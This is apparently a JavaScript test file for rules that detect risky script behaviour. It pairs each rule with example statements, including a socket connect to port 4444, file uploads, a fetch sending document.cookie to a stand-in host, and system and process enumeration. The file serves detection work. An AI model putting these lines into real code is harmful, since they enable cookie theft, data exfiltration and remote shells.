import { readExamples, rulesMatching } from './matching-rules.js';
import { scriptInterfaceRules } from './script-interfaces.rules.js';

/** One statement or more for every rule; harmless, made for this table. */
const examples = readExamples(String.raw`
socket-connect-script: s.connect(('192.0.2.9', 4444))
socket-connect-script: require('net').connect(4444, '192.0.2.9');
socket-listen-script: s.bind(('', 4444))
http-upload-script: requests.post(url, files={'f': open(path, 'rb')})
http-upload-browser: fetch('https://a.example.test/', { method: 'POST', body: x });
cookie-theft: fetch('https://a.example.test/?c=' + document.cookie);
mail-send-script: server = smtplib.SMTP('mail.example.test', 587)
mail-send-script: Set m = CreateObject("CDO.Message")
ftp-upload-script: ftp.storbinary('STOR a', f)
fetch-script: fetch('https://a.example.test/a.json').then((r) => r.text());
resolve-host-script: socket.gethostbyname('a.example.test')
system-script: print(platform.uname())
user-script: getpass.getuser()
processes-script: psutil.process_iter()
wmi-script: GetObject("winmgmts:").ExecQuery("SELECT * FROM Win32_OperatingSystem")
`);

describe('rules of the interfaces of script languages', () => {
  it.each(scriptInterfaceRules.map((rule) => rule.id))('%s has an example that fires it', (id) => {
    const statements = examples.get(id) ?? [];
    expect(statements.length).toBeGreaterThan(0);
    for (const statement of statements) expect(rulesMatching(scriptInterfaceRules, statement).map((rule) => rule.id)).toContain(id);
  });

  it('does not take a fetch that only asks for one that sends', () => {
    expect(rulesMatching(scriptInterfaceRules, "fetch('https://a.example.test/a.json', { method: 'GET' })", 'javascript').map((rule) => rule.id)).toEqual(['fetch-script']);
  });
});
